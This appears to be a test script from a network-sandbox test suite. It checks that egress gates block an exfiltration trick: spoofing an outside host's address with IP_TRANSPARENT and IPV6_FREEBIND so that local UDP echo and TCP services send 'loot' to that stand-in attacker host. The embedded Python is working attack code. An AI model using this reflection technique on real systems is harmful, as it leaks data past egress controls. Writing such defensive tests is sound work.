#!/bin/bash
# SPDX-License-Identifier: BSD-2-Clause
# attack: sends to services in its network namespace, in the name of a host outside, so that their answers take the data there
# stopped-by: connect4, connect6, sendmsg4, egress
# reason: destination
# kernels: all
#
# The services belong to another cgroup, and no gate holds them: a UDP echo, and a TCP listener, whose
# SYN-ACK goes to the host outside, with two ports and half a sequence number of the attacker's choice.
. "$(dirname "$0")/lib.sh"
arena udp/53

cat >"$SCRATCH/beside.py" <<'PYTHON'
import socket
listener = socket.create_server(("::", 9000), family=socket.AF_INET6, dualstack_ipv6=True)
sock = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
sock.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 0)
sock.bind(("::", 9000))
print("ready", flush=True)
while True:
    data, sender = sock.recvfrom(2048)
    try:
        sock.sendto(data, sender)
    except OSError:
        pass
PYTHON
spawn_in "$CLIENT" python3 -u "$SCRATCH/beside.py" >"$SCRATCH/beside"
wait_for 5 grep -q ready "$SCRATCH/beside"

attack_by <<'PYTHON'
from attacker import *

IPV6_FREEBIND, IP_TRANSPARENT = 78, 19
PORT = 9000
MAPPED_NONE = "::ffff:0.0.0.0"

def spoofing(own, kind):
    sock = socket.socket(family_of(own), kind)
    if own == MAPPED_NONE:
        sock.setsockopt(socket.SOL_IP, IP_TRANSPARENT, 1)
        sock.bind(("::ffff:" + EVIL4, 0))
    elif ":" in own:
        sock.setsockopt(socket.IPPROTO_IPV6, IPV6_FREEBIND, 1)
        sock.bind((EVIL6, 0))
    else:
        sock.setsockopt(socket.SOL_IP, IP_TRANSPARENT, 1)
        sock.bind((EVIL4, 0))
    sock.settimeout(0.2)
    return sock

for own, tag in (
    (OWN4, "own4"), (OWN6, "own6"), ("::1", "loopback6"), ("127.0.0.1", "loopback4"), ("0.0.0.0", "none4"),
    (MAPPED_NONE, "mapped"),
):
    with attempt(f"udp {own}"):
        spoofing(own, socket.SOCK_DGRAM).sendto(loot(tag), (own, PORT))
    with attempt(f"udp {own}, connected"):
        sock = spoofing(own, socket.SOCK_DGRAM)
        sock.connect((own, PORT))
        sock.send(loot("connected-" + tag))
    with attempt(f"tcp {own}"):
        spoofing(own, socket.SOCK_STREAM).connect((own, PORT))
PYTHON
works stolen:own4 stolen:own6 stolen:connected-own4 stolen:connected-own6 stolen:loopback6 stolen:loopback4 \
	stolen:none4 stolen:mapped stolen:connected-mapped 'ip4 6 .* EVIL4' 'ip6 6 .* EVIL6'
gate
stopped
recorded connect4 destination
recorded sendmsg4 destination
recorded connect6 destination
recorded egress destination
